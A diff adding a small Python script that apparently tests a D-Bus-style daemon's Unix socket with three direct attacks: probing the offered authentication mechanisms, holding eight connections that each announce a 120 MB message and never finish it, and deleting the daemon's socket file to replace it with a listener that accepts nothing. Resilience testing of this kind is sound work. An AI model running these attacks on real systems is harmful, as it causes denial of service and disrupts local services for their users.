@@ -1,0 +1,66 @@
+"""usage: direct-attacks.py SOCKET ATTACK
+
+Misuses the socket for direct connections, prints what came of it, and stays until it is ended.
+"""
+
+import os
+import socket
+import struct
+import sys
+import time
+
+path, attack = sys.argv[1], sys.argv[2]
+
+
+def connect():
+    connection = socket.socket(socket.AF_UNIX)
+    connection.connect(path)
+    return connection
+
+
+def authenticated():
+    connection = connect()
+    connection.sendall(b"\0AUTH EXTERNAL %s\r\n" % str(os.getuid()).encode().hex().encode())
+    connection.recv(4096)
+    connection.sendall(b"BEGIN\r\n")
+    return connection
+
+
+def mechanisms():
+    """The ways to say who one is."""
+    connection = connect()
+    connection.sendall(b"\0AUTH\r\n")
+    print("offered:", connection.recv(4096).decode().strip())
+
+
+def unfinished():
+    """Messages of 120 MB, of which the last bytes never come."""
+    held = []
+    for _ in range(8):
+        connection = authenticated()
+        connection.settimeout(5)
+        held.append(connection)
+        try:
+            connection.sendall(struct.pack("<BBBBIII", ord("l"), 1, 0, 1, 120 << 20, 1, 16) + bytes(16))
+            for _ in range(110):
+                connection.sendall(bytes(1 << 20))
+        except OSError:
+            pass  # it is refused
+    print("sent:", len(held))
+    return held
+
+
+def never_accepting():
+    """Takes the place of the daemon's socket, and takes no connections."""
+    os.unlink(path)
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(path)
+    listener.listen(0)
+    first = connect()
+    print("listening:", path)
+    return listener, first
+
+
+held = {"mechanisms": mechanisms, "unfinished": unfinished, "never-accepting": never_accepting}[attack]()
+sys.stdout.flush()
+time.sleep(600)
